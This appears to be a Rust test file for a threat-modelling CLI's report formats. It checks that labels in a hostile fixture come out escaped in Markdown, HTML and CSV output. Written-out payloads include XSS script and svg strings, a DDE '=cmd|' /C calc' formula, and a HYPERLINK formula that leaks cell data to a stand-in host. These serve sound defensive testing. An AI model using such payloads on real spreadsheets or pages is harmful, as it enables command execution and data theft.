//! The human-readable reports (`tms report --format md|html|csv`) and user
//! templates (`--template`): snapshots of a small model in every format, and
//! a model whose every label is hostile, checked against each format's rules.

use std::path::{Path, PathBuf};
use std::process::Output;

use base64::Engine;
use sha2::{Digest, Sha256};

const SHOP: &str = "tests/fixtures/report/shop.yaml";
const SHOP_RULES: &str = "tests/fixtures/report/rules.yaml";
const HOSTILE: &str = "tests/fixtures/report/hostile.yaml";
const HOSTILE_RULES: &str = "tests/fixtures/report/hostile-rules.yaml";

fn tms(args: &[&str]) -> Output {
    assert_cmd::cargo::cargo_bin_cmd!("tms")
        // Triage expiry depends on the date; pin it.
        .env("TMS_TODAY", "2026-01-01")
        .args(args)
        .output()
        .expect("run tms")
}

fn report(model: &str, rules: &str, format: &str) -> String {
    let out = tms(&[
        "report",
        model,
        "--no-default-rules",
        "--rules",
        rules,
        "--format",
        format,
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "tms report --format {format} failed:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("the report is UTF-8")
}

fn scratch(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("report_formats");
    std::fs::create_dir_all(&dir).expect("create scratch dir");
    dir.join(name)
}

#[test]
fn shop_markdown() {
    let md = report(SHOP, SHOP_RULES, "md");
    assert_eq!(md, report(SHOP, SHOP_RULES, "md"), "not deterministic");
    insta::assert_snapshot!("shop_md", md);
}

#[test]
fn shop_html() {
    let html = report(SHOP, SHOP_RULES, "html");
    assert_eq!(html, report(SHOP, SHOP_RULES, "html"), "not deterministic");
    insta::assert_snapshot!("shop_html", html);
}

#[test]
fn shop_csv() {
    let csv = report(SHOP, SHOP_RULES, "csv");
    assert_eq!(csv, report(SHOP, SHOP_RULES, "csv"), "not deterministic");
    insta::assert_snapshot!("shop_csv", csv);
}

#[test]
fn output_file_equals_stdout() {
    let path = scratch("shop.md");
    let out = tms(&[
        "report",
        SHOP,
        "--no-default-rules",
        "--rules",
        SHOP_RULES,
        "--format",
        "md",
        "-o",
        path.to_str().expect("UTF-8 path"),
    ]);
    assert_eq!(out.status.code(), Some(0));
    let written = std::fs::read_to_string(&path).expect("read the report");
    assert_eq!(written, report(SHOP, SHOP_RULES, "md"));
}

// ---- Markdown ----

/// The cells of a GFM table row: split on `|` that no backslash escapes.
fn md_cells(row: &str) -> usize {
    let mut pipes = 0;
    let mut escaped = false;
    for c in row.chars() {
        match c {
            '\\' if !escaped => escaped = true,
            '|' if !escaped => pipes += 1,
            _ => escaped = false,
        }
    }
    pipes
}

#[test]
fn hostile_markdown_keeps_tables_and_shows_markup_as_text() {
    let full = report(HOSTILE, HOSTILE_RULES, "md");
    // The Mermaid block is code, not Markdown: its labels follow Mermaid's
    // escaping (tested with the real parser in tests/diagram_tools.rs). Check
    // that the fence closes, then scan the Markdown around it.
    let open = full
        .find("```mermaid\n")
        .expect("the report embeds the diagram");
    let fence_len = full[..open + 3]
        .rsplit(|c| c != '`')
        .next()
        .map_or(3, str::len);
    let fence = "`".repeat(fence_len);
    let close = full[open + fence_len..]
        .find(&format!("\n{fence}\n"))
        .map(|i| open + fence_len + i)
        .expect("the Mermaid fence closes");
    assert!(
        !full[open + fence_len..close].contains(&fence),
        "a label closed the fence early"
    );
    let md = format!("{}{}", &full[..open], &full[close + fence_len + 2..]);
    let mut tables = 0;
    let mut columns: Option<usize> = None;
    for line in md.lines() {
        if line.starts_with('|') {
            let n = md_cells(line);
            match columns {
                None => {
                    columns = Some(n);
                    tables += 1;
                }
                Some(c) => assert_eq!(n, c, "a table row lost its shape:\n{line}"),
            }
        } else {
            columns = None;
        }
    }
    assert!(tables >= 8, "expected the report's tables, found {tables}");
    // Every `<` in the output is a line break we wrote; none comes from a label.
    for (i, _) in md.match_indices('<') {
        assert!(
            md[i..].starts_with("<br>"),
            "raw `<` in the Markdown: {}",
            &md[i..(i + 40).min(md.len())]
        );
    }
    for hostile in [
        "<script",
        "<b id",
        "<img",
        "<svg",
        "[x](javascript:",
        "`tick`",
    ] {
        assert!(
            !md.contains(hostile),
            "unescaped `{hostile}` in the Markdown"
        );
    }
    // Shown as text, not dropped.
    assert!(md.contains("&lt;script&gt;document.title='pwned'&lt;/script&gt;"));
    assert!(md.contains("Ünïcödé 区域 🚀"));
    // A label's line breaks stay inside its cell.
    assert!(md.contains("a\\|b\\|c<br>\\|d\\| back\\\\\\|slash"));
}

// ---- CSV ----

/// A strict RFC 4180 reader: records of fields, CRLF between records.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut at_start = true;
    while let Some(c) = chars.next() {
        match c {
            '"' if at_start => {
                // A quoted field runs to the quote not followed by another.
                loop {
                    match chars.next() {
                        Some('"') if chars.peek() == Some(&'"') => {
                            chars.next();
                            field.push('"');
                        }
                        Some('"') => break,
                        Some(x) => field.push(x),
                        None => panic!("unterminated quoted field"),
                    }
                }
                at_start = false;
                assert!(
                    matches!(chars.peek(), Some(',' | '\r') | None),
                    "text after a closing quote"
                );
            }
            '"' => panic!("a quote inside an unquoted field: {field}"),
            ',' => {
                record.push(std::mem::take(&mut field));
                at_start = true;
            }
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF ends a record");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
                at_start = true;
            }
            '\n' => panic!("a bare LF outside quotes"),
            x => {
                field.push(x);
                at_start = false;
            }
        }
    }
    assert!(
        record.is_empty() && field.is_empty(),
        "the last record has no CRLF"
    );
    records
}

#[test]
fn csv_reader_is_strict() {
    assert_eq!(
        parse_csv("a,\"b,\"\"c\"\"\r\nd\"\r\n"),
        vec![vec!["a".to_string(), "b,\"c\"\r\nd".to_string()]]
    );
    assert!(std::panic::catch_unwind(|| parse_csv("a\"b\r\n")).is_err());
    assert!(std::panic::catch_unwind(|| parse_csv("a\nb\r\n")).is_err());
}

#[test]
fn hostile_csv_parses_back_with_formulas_neutralised() {
    let csv = report(HOSTILE, HOSTILE_RULES, "csv");
    let records = parse_csv(&csv);
    let header = &records[0];
    assert_eq!(header.len(), 25);
    let findings = records.iter().filter(|r| r[0] == "finding").count();
    assert_eq!(findings, 6, "one record per finding");
    assert_eq!(
        records.len(),
        1 + findings + records.iter().filter(|r| r[0] == "question").count(),
        "a header, then findings, then questions"
    );
    for r in &records {
        assert_eq!(r.len(), header.len(), "record {r:?}");
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}"))
    };
    let first = &records[1];
    assert_eq!(first[col("id")], "HOST-001@flow&amp;<b/id=inj-fid>");
    // The value is kept whole behind its quote mark, quotes and line break included.
    assert_eq!(
        first[col("justification")],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") | <b id=\"inj-just\">x</b>\nsecond line"
    );
    assert_eq!(first[col("owner")], "'@owner");
    assert_eq!(first[col("ticket")], "'-1");
    assert_eq!(first[col("mitigation")], "'=cmd|' /C calc'!A0");
    assert_eq!(first[col("stride")], "S; T");
    let actor = records
        .iter()
        .find(|r| r[col("target")] == "'=1+2")
        .expect("the finding on `=1+2`");
    assert_eq!(actor[col("description")], "'+SUM(1)\n|a|b|");
}

// ---- HTML ----

fn between<'a>(s: &'a str, open: &str, close: &str) -> &'a str {
    let start = s.find(open).unwrap_or_else(|| panic!("no {open}")) + open.len();
    let end = s[start..]
        .find(close)
        .unwrap_or_else(|| panic!("no {close}"))
        + start;
    &s[start..end]
}

fn sha256(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(Sha256::digest(s.as_bytes()))
}

#[test]
fn hostile_html_escapes_every_label() {
    let html = report(HOSTILE, HOSTILE_RULES, "html");
    let lower = html.to_ascii_lowercase();
    assert_eq!(
        lower.matches("<script").count(),
        1,
        "only our own script element"
    );
    assert_eq!(
        between(&html, "<script>", "</script>"),
        include_str!("../../templates/report/report.js")
    );
    // The one SVG is the report's own diagram; a label's `<svg/onload` would be a second.
    assert_eq!(
        lower.matches("<svg").count(),
        1,
        "only the diagram's own svg element"
    );
    for hostile in ["<b id", "<b/id", "<i/id", "<img", "<svg/", "<title>pwned"] {
        assert!(
            !lower.contains(hostile),
            "unescaped `{hostile}` in the HTML"
        );
    }
    // Model ids in attributes: quoted and escaped, so none closes its attribute.
    assert!(html.contains("data-target=\"srv&#x27;&gt;&lt;b&#x2f;id=&#x27;inj-eid&#x27;&gt;\""));
    assert!(html.contains("&lt;script&gt;document.title=&#x27;pwned&#x27;&lt;&#x2f;script&gt;"));
    assert!(html.contains("Ünïcödé 区域 🚀"));
}

#[test]
fn html_is_self_contained_with_a_policy_for_its_own_assets() {
    let html = report(SHOP, SHOP_RULES, "html");
    let csp = between(
        &html,
        "<meta http-equiv=\"Content-Security-Policy\" content=\"",
        "\"",
    );
    let style = between(&html, "<style>", "</style>");
    let script = between(&html, "<script>", "</script>");
    assert!(csp.starts_with("default-src 'none';"), "{csp}");
    assert!(csp.contains(&format!("style-src 'sha256-{}'", sha256(style))));
    assert!(csp.contains(&format!("script-src 'sha256-{}'", sha256(script))));
    assert!(!csp.contains("unsafe"), "{csp}");
    let lower = html.to_ascii_lowercase();
    // The diagram's arrowheads are `url(#arrowN)`: a reference inside the page.
    let lower = lower.replace("url(#arrow", "");
    for fetch in [
        "http://", "https://", "src=", "<link", "@import", "url(", " style=",
    ] {
        assert!(
            !lower.contains(fetch),
            "the page would fetch or use `{fetch}`"
        );
    }
    // Readable without JavaScript: every finding is in the page, the filters are hidden.
    assert_eq!(html.matches("<article class=\"finding\"").count(), 6);
    assert!(html.contains("<form id=\"filters\" hidden>"));
}

// ---- --template ----

fn write(name: &str, text: &str) -> PathBuf {
    let p = scratch(name);
    std::fs::write(&p, text).expect("write the template");
    p
}

fn with_template(model: &str, rules: &str, template: &Path, extra: &[&str]) -> Output {
    let mut args = vec![
        "report",
        model,
        "--no-default-rules",
        "--rules",
        rules,
        "--template",
        template.to_str().expect("UTF-8 path"),
    ];
    args.extend_from_slice(extra);
    tms(&args)
}

#[test]
fn user_template_sees_the_report_data() {
    // A block tag swallows the newline after it (trim_blocks), a list prints
    // joined by "; " and `none` as nothing, as the doc says.
    let t = write(
        "summary.txt.j2",
        "{{ model.title }}: {{ summary.total }} findings, {{ summary.open }} open\n\
         {% for g in byStride if g.total %}{{ g.id }}={{ g.total }} {% endfor %}\n\
         {% for f in findings|pick(byTarget[0].findings) %}{{ f.id }} {{ f.risk.level }} {{ f.status }}\n{% endfor %}\
         {% for b in boundaries %}{{ b.depth }}:{{ b.path|join('/') }} {% endfor %}\n\
         {{ riskMatrix.rows[0].cells[1].total }} {{ crossingFlows|length }} {{ triage[2].findings|join(',') }}\n\
         {{ findings[0].stride }} {{ findings[0].justification }}{{ findings[2].justification }}.\n",
    );
    let out = with_template(SHOP, SHOP_RULES, &t, &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "Report fixture shop: 6 findings, 3 open\n\
         S=1 T=2 R=2 I=3 RPT-002@web high open\nRPT-004@web high open\n\
         0:Internet 0:DMZ 1:DMZ/App tier 2:DMZ/App tier/Vault 0 3 RPT-001@notify,RPT-001@order\n\
         T; I The network team owns transport security..\n"
    );
}

#[test]
fn user_template_escaping_follows_its_extension_then_format() {
    let body = "{{ model.title }}|{{ findings[0].target }}\n";
    let html = "&lt;script&gt;document.title=&#x27;pwned&#x27;&lt;&#x2f;script&gt; &amp; &quot;quotes&quot; \
                &#x27;single&#x27; | `tick`|flow&amp;amp;&lt;b&#x2f;id=inj-fid&gt;\n";
    let cases: [(&str, &[&str], &str); 6] = [
        ("t.html", &[], html),
        ("t.html.j2", &[], html),
        (
            "t.md",
            &[],
            "&lt;script&gt;document.title='pwned'&lt;/script&gt; &amp; \"quotes\" 'single' \\| \\`tick\\`\
             |flow&amp;amp;&lt;b/id=inj-fid&gt;\n",
        ),
        // In a CSV template each printed value is one field.
        (
            "t.csv.j2",
            &[],
            "\"<script>document.title='pwned'</script> & \"\"quotes\"\" 'single' | `tick`\"\
             |flow&amp;<b/id=inj-fid>\n",
        ),
        // With no telling extension, `--format` chooses.
        ("t.tpl", &["--format", "html"], html),
        // With neither, values go out as they are.
        (
            "t.txt",
            &[],
            "<script>document.title='pwned'</script> & \"quotes\" 'single' | `tick`\
             |flow&amp;<b/id=inj-fid>\n",
        ),
    ];
    for (name, extra, wanted) in cases {
        let t = write(name, body);
        let out = with_template(HOSTILE, HOSTILE_RULES, &t, extra);
        assert_eq!(out.status.code(), Some(0), "{name}");
        assert_eq!(String::from_utf8_lossy(&out.stdout), wanted, "{name}");
    }
}

#[test]
fn user_template_extends_a_builtin_one() {
    let t = write(
        "with-diagram.md.j2",
        "{% extends \"report.md.j2\" %}{% block diagram %}DIAGRAM {{ model.counts.flows }} flows\n\n{% endblock %}",
    );
    let out = with_template(SHOP, SHOP_RULES, &t, &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("## System overview\n\nDIAGRAM 4 flows\n\n### Trust boundaries"));
    assert!(text.starts_with("# Threat model: Report fixture shop\n"));
}

#[test]
fn template_errors_name_the_line_and_exit_2() {
    let cases = [
        (
            "syntax.txt",
            "line one\n\n{% for x in %}\n{% endfor %}\n",
            ":3: error: template: syntax error: unexpected end of block",
        ),
        (
            "undefined.txt",
            "{{ model.title }}\n{{ model.titel }}\n",
            ":2: error: template: undefined value",
        ),
        (
            "undefined-attr.txt",
            "{{ model.title }}\n\n{{ model.titel.x }}\n",
            ":3: error: template: undefined value",
        ),
        (
            "unclosed.txt",
            "{% if model.title %}\nno end\n",
            ":2: error: template: syntax error: unexpected end of input",
        ),
    ];
    for (name, text, wanted) in cases {
        let t = write(name, text);
        let out = with_template(SHOP, SHOP_RULES, &t, &[]);
        assert_eq!(out.status.code(), Some(2), "{name}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!("{}{wanted}", t.display())),
            "{name}: {err}"
        );
        assert!(out.stdout.is_empty(), "{name}: output despite the error");
    }
    let out = with_template(SHOP, SHOP_RULES, &scratch("missing.j2"), &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read template"));
}
